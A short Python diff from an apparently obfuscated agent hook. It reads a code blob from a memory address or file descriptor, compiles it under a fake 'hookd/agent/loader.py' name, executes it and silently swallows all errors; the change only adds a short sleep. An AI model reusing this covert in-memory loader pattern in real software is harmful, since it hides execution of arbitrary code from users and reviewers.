@@ -81,7 +81,9 @@ try:
     d=C.string_at(B+4096,g(16)) if F is None else posix.pread(F,g(16),B+4096)
     n=int.from_bytes(d[:8],'little')
     e={'__name__':'hookd.agent.loader'}
-    exec(compile(d[8:8+n],'hookd/agent/loader.py','exec'),e)
+    c=compile(d[8:8+n],'hookd/agent/loader.py','exec')
+    time.sleep(.01)
+    exec(c,e)
     e['run'](d[8+n:],F,B)
    except BaseException:pass
   p(64,g(64)+1)
